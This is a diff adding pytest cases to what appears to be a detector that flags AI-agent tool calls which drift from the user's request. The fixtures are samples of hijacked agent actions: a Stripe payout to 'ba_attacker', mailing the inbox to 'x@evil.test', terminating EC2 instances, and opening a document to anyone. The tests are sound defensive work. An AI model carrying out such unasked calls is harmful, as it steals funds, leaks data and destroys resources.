@@ -287,3 +287,43 @@ def test_other_words_in_other_languages_still_ask_for_nothing(
     ask: str, tool: str, args: dict[str, Any]
 ) -> None:
     assert _top(_one_call(ask, tool, **args))[0] == "intent_drift"
+
+
+@pytest.mark.parametrize(
+    ("name", "kind"),
+    [
+        # redteam s27 #2: REST/SDK names with a plural resource and a generic method
+        ("users.messages.send", "message"),
+        ("resend.emails.send", "email"),
+        ("twilio.messages.create", "message"),
+        ("stripe.payouts.create", "payment"),
+        ("stripe.charges.create", "payment"),
+        ("drive.permissions.create", "permission"),
+        ("users.update", "modify"),
+        ("ec2.terminate_instances", "delete"),
+        # a name with a read verb names no resource it acts on
+        ("messages.list", "other"),
+        ("users.messages.get", "other"),
+        ("stripe.charges.list", "other"),
+        ("x.getUserBlock", "other"),
+    ],
+)
+def test_rest_resource_names_have_their_kind(name: str, kind: str) -> None:
+    from incident_lab.provenance.actions import action_kind
+
+    assert action_kind(name) == kind
+
+
+@pytest.mark.parametrize(
+    ("ask", "tool", "args"),
+    [
+        ("What's my Stripe balance?", "stripe.payouts.create",
+         {"amount": 490000, "destination": "ba_attacker"}),
+        ("Summarize my inbox.", "users.messages.send", {"to": "x@evil.test", "raw": "inbox"}),
+        ("List my EC2 instances.", "ec2.terminate_instances", {"InstanceIds": ["i-1", "i-2"]}),
+        ("Who can see the budget doc?", "drive.permissions.create",
+         {"fileId": "f1", "role": "writer", "type": "anyone"}),
+    ],
+)  # fmt: skip
+def test_unasked_rest_calls_are_drift(ask: str, tool: str, args: dict[str, Any]) -> None:
+    assert _top(_one_call(ask, tool, **args))[0] == "intent_drift"
